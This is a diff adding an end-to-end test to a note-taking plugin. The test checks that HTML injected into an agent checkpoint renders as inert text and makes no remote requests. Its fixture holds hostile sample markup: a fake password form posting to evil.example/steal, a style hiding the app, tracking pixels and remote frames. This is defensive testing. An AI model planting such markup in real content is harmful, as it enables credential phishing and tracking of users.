@@ -4,7 +4,9 @@
  * plus vault-hostile's `delta` scope with its generated 5 MB checkpoint and 5,000-level YAML.
  * The pane names each problem and still shows the rest of the scope; the 5 MB State comes folded
  * behind "Show all". Then the plugin's index file is garbage before the page loads: the person is
- * told once, and the pane works from the vault.
+ * told once, and the pane works from the vault. A checkpoint whose State is HTML built to act
+ * (a form, a style hiding the app, tracking pixels, frames, an embed) shows as text, and the
+ * page asks nothing of another host.
  *
  * What the host cannot serve is left to the reliability tests: links, FIFOs and folders where
  * checkpoints should be never reach the page (the server lists regular files only).
@@ -16,6 +18,44 @@ import { bigCheckpoint, deepYamlCheckpoint } from '../reliability/lib/hostile-va
 import { openResumePane, PANE, ROOT, screenshot, statusText, useHost, waitForPane } from './helpers';
 
 const D1 = 'sessions/delta/_convos/d0000000-0000-4000-8000-00000000d001';
+/** A checkpoint whose State is HTML built to act: a form, a style that hides the app, frames, tracking pixels, an embed. */
+const ZETA = 'sessions/zeta/_convos/f0000000-0000-4000-8000-00000000f001/20261206-090000-claude.md';
+const HOSTILE_STATE = [
+	'the exporter streams rows now: ![[secret plan]] and `Vec<String>` stays code',
+	'',
+	'<form action="https://evil.example/steal" method="post"><input type="password" name="pw" placeholder="Vault password"><button>Unlock</button></form>',
+	'',
+	'<style>body{display:none}</style>',
+	'',
+	'<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>',
+	'',
+	'<img src="https://track.example/pixel.gif"> ![pixel](https://track.example/md.gif) ![x](//track.example/proto.gif)',
+	'',
+	'<iframe src="https://evil.example/frame"></iframe><video src="https://evil.example/v.mp4"></video><link rel="stylesheet" href="https://evil.example/s.css">',
+].join('\n');
+const ZETA_TEXT = `---
+type: checkpoint
+title: zeta — 20261206-090000-claude
+project: zeta
+agent: claude
+session: 20261206-090000-claude
+host_session: f0000000-0000-4000-8000-00000000f001
+first_seen: 2026-12-06
+checkpointed: 2026-12-06T09:00:00-08:00
+---
+
+## Task
+
+stream the export
+
+## State
+
+${HOSTILE_STATE}
+
+## Next
+
+ship it
+`;
 const D2 = 'sessions/delta/_convos/d0000000-0000-4000-8000-00000000d002';
 const BIG = `${D1}/20261205-090000-claude.md`;
 /** What the plugin says once when its index file cannot be read (src/vault/obsidian-index.ts NOTICE.rebuilt). */
@@ -27,6 +67,9 @@ const served = useHost(join(ROOT, 'test/fixtures/vault-own'), {
 		cpSync(join(ROOT, 'test/fixtures/vault-hostile/sessions/delta'), join(host.dir, 'sessions/delta'), { recursive: true });
 		writeFileSync(join(host.dir, ...BIG.split('/')), bigCheckpoint());
 		writeFileSync(join(host.dir, ...`${D2}/20261204-120000-codex.md`.split('/')), deepYamlCheckpoint());
+		mkdirSync(join(host.dir, ...ZETA.split('/').slice(0, -1)), { recursive: true });
+		writeFileSync(join(host.dir, ...ZETA.split('/')), ZETA_TEXT);
+		writeFileSync(join(host.dir, 'secret plan.md'), '# secret plan\n\nSECRET PLAN: never shown in the pane\n');
 	},
 });
 
@@ -86,6 +129,40 @@ test('a 5 MB checkpoint is the latest, its State folded behind "Show all", with 
 	const shown = await problems(page);
 	expect(shown.some((p) => p.startsWith('Malformed checkpoint') && /nests deeper than 200 levels/.test(p))).toBe(true);
 	await screenshot(page, 'hostile-big-checkpoint');
+	expect(errors).toEqual([]);
+	await page.context().close();
+});
+
+test('HTML in agent text: no form, no style, no remote request, and the app stays visible', async () => {
+	const { page, errors } = await served.open();
+	// Every request off this machine is counted and refused.
+	const remote: string[] = [];
+	await page.context().route(
+		(url) => !['127.0.0.1', 'localhost'].includes(url.hostname),
+		async (route) => {
+			remote.push(route.request().url());
+			await route.abort();
+		},
+	);
+	await openResumePane(page);
+	await showScope(page, 'zeta');
+	const state = page.locator(`${PANE} [data-section="state"]`);
+	await state.locator('code', { hasText: 'Vec<String>' }).waitFor();
+	// Short enough to show whole: nothing is hidden behind "Show all".
+	expect(await state.locator('button.logos-show-all').count()).toBe(0);
+	// What the agent wrote reads as text; none of it acts.
+	expect(await state.textContent()).toContain('<form action="https://evil.example/steal" method="post">');
+	expect(await page.locator(`${PANE} form, ${PANE} input, ${PANE} iframe, ${PANE} video, ${PANE} img`).count()).toBe(0);
+	expect(await page.locator(`${PANE} [data-section="state"] style, ${PANE} [data-section="state"] [style], ${PANE} link`).count()).toBe(0);
+	// The embed is a plain link to the note, never its content.
+	expect(await state.locator('a.internal-link', { hasText: 'secret plan' }).count()).toBe(1);
+	expect(await state.textContent()).not.toContain('SECRET PLAN');
+	// The app is still there to see.
+	expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
+	expect(await page.locator(`${PANE} .logos-who`).isVisible()).toBe(true);
+	expect(await page.locator('.status-bar-item.plugin-logos-continuity').isVisible()).toBe(true);
+	await screenshot(page, 'hostile-html');
+	expect(remote).toEqual([]);
 	expect(errors).toEqual([]);
 	await page.context().close();
 });
